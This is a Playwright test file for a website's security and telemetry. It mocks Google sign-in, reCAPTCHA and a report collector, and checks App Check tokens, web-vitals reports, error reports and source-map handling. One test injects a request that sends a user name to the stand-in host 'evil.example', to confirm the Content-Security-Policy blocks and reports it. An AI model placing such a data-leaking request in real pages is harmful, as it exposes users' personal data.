import { existsSync, readdirSync, readFileSync } from 'node:fs';
import { SourceMap } from 'node:module';
import { basename, join } from 'node:path';
import type { Page, Route } from '@playwright/test';
import { type Report, reportSchema } from '../../src/shared/report';
import { buildSite } from '../global-setup';
import { unsignedToken } from '../support/emulators';
import { copy, submit } from './account-area';
import { test as base, expect, paths } from './fixtures';

// The emulators do not support App Check, and the local site has no collector. These tests build
// the site as for a real project, mock Google and the collector, and check the requests of the site
// under its Content-Security-Policy.
const SITE = 'https://lively.example';
const COLLECTOR = 'https://collector.example/in';
const FOLDER = 'test-results/real-project';
const PROJECT = 'demo-lively';
const TOKEN = 'a-token-of-app-check';

const RECAPTCHA_URL = 'https://www.google.com/recaptcha/**';
const RECAPTCHA = `window.grecaptcha = { enterprise: {
  ready: (then) => then(),
  render: (_, { callback }) => { callback(); return 0; },
  execute: async () => 'a person',
} };`;
const NEVER_READY = 'window.grecaptcha = { enterprise: { ready() {} } };';

/** The responses of Google by a part of the URL. */
const GOOGLE: Readonly<Record<string, object>> = {
  'accounts:signInWithPassword': {
    localId: 'jane',
    email: 'jane@example.com',
    idToken: unsignedToken(PROJECT, 'jane'),
    refreshToken: 'r',
    expiresIn: '3600',
  },
  'accounts:lookup': { users: [{ localId: 'jane', email: 'jane@example.com' }] },
  'documents:batchGet': [
    {
      missing: `projects/${PROJECT}/databases/(default)/documents/users/jane`,
      readTime: new Date().toISOString(),
    },
  ],
  completeSignUp: { result: { uid: 'jane', username: 'jane' } },
  ':exchangeRecaptchaEnterpriseToken': { token: TOKEN, ttl: '3600s' },
};
/** The calls that need a token of App Check, one of each service. */
const PROTECTED = ['accounts:signInWithPassword', 'documents:batchGet', 'completeSignUp'];

const test = base.extend<{ site: undefined; reports: Report[] }>({
  baseURL: SITE,
  expectedConsole: /ERR_FAILED|status of 400|Content Security Policy directive: "img-src/,
  /** Serves the site as Hosting does, with clean URLs. */
  site: [
    async ({ page }, use) => {
      await page.route(`${SITE}/**`, async (route) => {
        const file = join(FOLDER, new URL(route.request().url()).pathname);
        await route.fulfill({ path: existsSync(file) ? file : `${file}.html` });
      });
      await use(undefined);
    },
    { auto: true },
  ],
  /** Serves the collector. Contains what it has received so far. */
  reports: [
    async ({ page }, use) => {
      const reports: Report[] = [];
      await page.route(COLLECTOR, async (route) => {
        const request = route.request();
        expect(request.headers()['content-type']).toBe('application/json');
        reports.push(reportSchema.parse(request.postDataJSON()));
        await route.fulfill();
      });
      await use(reports);
    },
    { auto: true },
  ],
});

// One worker, so that the site is built once.
test.describe.configure({ mode: 'default' });

test.beforeAll(() => {
  buildSite(FOLDER, {
    VITE_FIREBASE_PROJECT_ID: PROJECT,
    VITE_FIREBASE_API_KEY: 'key',
    VITE_FIREBASE_APP_ID: 'app',
    VITE_FIREBASE_STORAGE_BUCKET: 'bucket',
    VITE_APP_CHECK_SITE_KEY: 'site-key',
    VITE_REPORT_URL: COLLECTOR,
  });
});

const isBlocked = (route: Route) => route.abort();
const isReady = (route: Route) => route.fulfill({ body: RECAPTCHA });
const isNeverReady = (route: Route) => route.fulfill({ body: NEVER_READY });

for (const { name, recaptcha, token } of [
  { name: 'a token of App Check', recaptcha: isReady, token: TOKEN },
  { name: 'no token when App Check is blocked', recaptcha: isBlocked, token: 'none' },
  { name: 'no token when App Check never becomes ready', recaptcha: isNeverReady, token: 'none' },
]) {
  test(`calls have ${name}`, async ({ page }) => {
    await page.route(RECAPTCHA_URL, recaptcha);
    expect(await tokensOfSignUp(page)).toEqual([token, token, token]);
  });
}

/** Opens the page, and waits for its reporter, which the site imports after the load event. */
const openPremium = (page: Page) => page.goto(paths.premium, { waitUntil: 'networkidle' });
const premiumReport = { page: paths.premium, build: expect.stringMatching(/^[0-9a-f]{8}$/) };

test('a page reports web vitals', async ({ page, reports }) => {
  await openPremium(page);
  // The first interaction finalizes LCP.
  await page.keyboard.press('Shift');
  const vital = { ...premiumReport, kind: 'vital', what: 'LCP', value: expect.any(Number) };
  await expect.poll(() => reports).toContainEqual(vital);
});

test('a page reports violations of its policy without their URL', async ({ page, reports }) => {
  await openPremium(page);
  await page.evaluate(() => {
    new Image().src = 'https://evil.example/?name=jane';
  });
  const violation = { ...premiumReport, kind: 'violation', what: 'img-src', code: 'other' };
  await expect.poll(() => reports).toContainEqual(violation);
});

/** Fails a log-in with a code of Firebase that no form expects. @returns its report */
async function failLogIn(page: Page, reports: readonly Report[]) {
  await page.route(/googleapis\.com|google\.com/, (route) =>
    route.fulfill({ status: 400, json: { error: { message: 'OPERATION_NOT_ALLOWED' } } }),
  );
  await page.goto(paths.logIn);
  await submit(page, copy.logIn, { email: 'jane@example.com', password: 'sailing1' });
  await expect.poll(() => reports.map(({ what }) => what)).toContain('log in');
  return reports.find(({ what }) => what === 'log in');
}

test('the report of a failure leads to its source', async ({ page, reports }) => {
  const { build = '', at = '' } = (await failLogIn(page, reports)) ?? {};
  const [script = '', line, column] = at.split(':');
  // The build moves the maps here, next to the site's folder.
  const map = join('test-results/source-maps', build, `${basename(script)}.map`);
  const sourceMap = new SourceMap(JSON.parse(readFileSync(map, 'utf8')));
  expect(sourceMap.findOrigin(Number(line), Number(column))).toMatchObject({
    fileName: expect.stringMatching(/\/(src|node_modules)\/\S+\.[jt]sx?$/),
  });
});

test('the report of a failure never has the email', async ({ page, reports }) => {
  await failLogIn(page, reports);
  expect(JSON.stringify(reports)).not.toContain('jane');
});

// Source maps contain the source code.
test('source maps are not deployed', () => {
  const names = readdirSync(FOLDER, { recursive: true, encoding: 'utf8' });
  expect(names.filter((name) => name.endsWith('.map'))).toEqual([]);
});

/** Logs in and claims a username. @returns the App Check token of each protected call, or 'none' */
async function tokensOfSignUp(page: Page): Promise<(string | undefined)[]> {
  const sent = new Map<string, string>();
  await page.route(/googleapis\.com|cloudfunctions\.net/, async (route) => {
    const request = route.request();
    const call = Object.keys(GOOGLE).find((name) => request.url().includes(name));
    if (call === undefined) throw new Error(`There is no response for ${request.url()}.`);
    sent.set(call, request.headers()['x-firebase-appcheck'] ?? 'none');
    await route.fulfill({ json: GOOGLE[call] });
  });

  await page.goto(paths.logIn);
  await submit(page, copy.logIn, { email: 'jane@example.com', password: 'sailing1' });
  await page.waitForURL(`**${paths.username}`);
  await submit(page, copy.username, { name: 'Jane', username: 'jane' });
  await expect.poll(() => sent.has('completeSignUp')).toBe(true);
  return PROTECTED.map((call) => sent.get(call));
}
